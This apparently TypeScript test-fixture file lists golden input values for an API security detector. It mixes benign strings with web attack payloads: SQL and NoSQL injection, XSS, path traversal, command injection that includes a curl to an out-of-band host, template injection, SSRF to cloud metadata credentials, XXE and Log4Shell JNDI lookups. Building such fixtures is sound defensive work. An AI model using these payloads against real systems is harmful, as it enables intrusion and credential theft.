import type { ContentValue, PlaceKind } from '@api-security/core/extraction';

/** A value under the name that its place ends with: nothing here stands in an array, and no key holds a dot. */
function value(kind: PlaceKind, place: string, text: string): ContentValue {
  const named = kind !== 'path' && kind !== 'key' && place.includes('.');
  return { place, kind, name: named ? place.slice(place.lastIndexOf('.') + 1).toLowerCase() : '', text };
}

/**
 * Attacks of every category, their near neighbours, and the corners of the input: no name, a name that is cut, the same text
 * under two names, empty room, one byte, a full window and one byte more, many windows, every place.
 */
export const GOLDEN_VALUES: readonly ContentValue[] = [
  value('query', 'query.id', "1' OR 1=1--"),
  value('query', 'query.id', '1%27%20UNION%20SELECT%20username,password%20FROM%20users--'),
  value('body', 'body.user', "admin'/**/and/**/sleep(5)#"),
  value('key', 'body.password.$ne', '$ne: null'),
  value('body', 'body.filter', '{"$where":"this.password.match(/^a/)"}'),
  value('query', 'query.q', '<script>alert(1)</script>'),
  value('body', 'body.comment', '"><img src=x onerror=alert(document.cookie)>'),
  value('query', 'query.next', 'javascript:alert(1)'),
  value('path', 'path', '/files/../../../../etc/passwd'),
  value('query', 'query.file', '..%252f..%252f..%252fetc%252fpasswd'),
  value('filename', 'body.file', '../../../../var/www/shell.php'),
  value('body', 'body.host', '127.0.0.1; cat /etc/passwd'),
  value('body', 'body.domain', '$(curl http://k3v9q.oast.pro/`whoami`)'),
  value('query', 'query.name', '{{7*7}}'),
  value('body', 'body.template', "${T(java.lang.Runtime).getRuntime().exec('id')}"),
  value('body', 'body.url', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
  value('query', 'query.redirect', '//evil.example/%2f..'),
  value('raw', 'body', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
  value('query', 'query.user', '*)(uid=*))(|(uid=*'),
  value('query', 'query.lang', 'en%0d%0aSet-Cookie:%20session=1'),
  value('cookie', 'cookie.session', 'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}'),
  value('key', 'body.__proto__', '__proto__: {'),
  value('header', 'header.x-api-version', '${jndi:ldap://k3v9q.oast.pro/a}'),
  value('header', 'header.user-agent', '${${lower:j}ndi:${lower:l}dap://127.0.0.1:1389/x}'),
  value('body', 'body.query', '{ __schema { types { name fields { name } } } }'),
  value('header', 'header.user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'),
  value('query', 'query.q', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e'),
  value('body', 'body.name', "O'Brien"),
  value('body', 'body.note', 'please select a plan from the list, then update your settings'),
  value('query', 'query.q', 'rock & roll; blues'),
  value('body', 'body.text', 'a && b means both; a || b means either'),
  value(
    'body',
    'body.html',
    '<p>Hello <strong>Anna</strong>, thanks for your <a href="https://shop.example/orders/42">order</a>.</p>',
  ),
  value('body', 'body.template', 'Dear {{ user.name }}, your order {{order.id}} has shipped.'),
  value('body', 'body.webhook', 'https://hooks.example.com/services/T024BE7LD/B024BE7LD'),
  value('query', 'query.sort', '-created_at,name'),
  value(
    'header',
    'header.user-agent',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  ),
  value('path', 'path', '/assets/app.3f2a9c.js'),
  value('cookie', 'cookie._ga', 'GA1.2.1234567890.1699999999'),
  value('body', 'body.code', 'for (let i = 0; i < n; i++) { total += items[i].price; }'),
  value('body', 'body.query', 'query { viewer { login repositories(first: 10) { nodes { name } } } }'),
  value('body', 'body.cron', '*/5 * * * *'),
  value('body', 'body.text', 'Grüße aus Köln – 東京は晴れです 🙂'),
  value('raw', 'body', '\u0000'),
  value('query', 'query.x', '%'),
  value('body', 'body.long', `${'The order arrived on Tuesday and the customer was happy with it. '.repeat(12)}`),
  value(
    'body',
    'body.long',
    `${'The order arrived on Tuesday and the customer was happy with it. '.repeat(12)}' UNION SELECT password FROM users-- `,
  ),
  value('body', 'body.exact', `${'x'.repeat(230)}'`),
  value('body', 'body.beyond', `${'x'.repeat(231)}'`),
  value('query', 'query.cmd', 'whoami'),
  value('query', 'query.note', 'whoami'),
  value('query', 'query.file', '/etc/passwd'),
  value('body', 'body.spec.volume.mountPath', '/var/www/html'),
  value('query', 'query.redirect', '//evil.example'),
  value('query', 'query.a_name_longer_than_the_row_has_room_for', "1' OR 1=1--"),
  value('query', 'query.Überschrift', 'Grüße'),
  value('header', 'header.x-forwarded-for', '203.0.113.7, 198.51.100.2'),
];
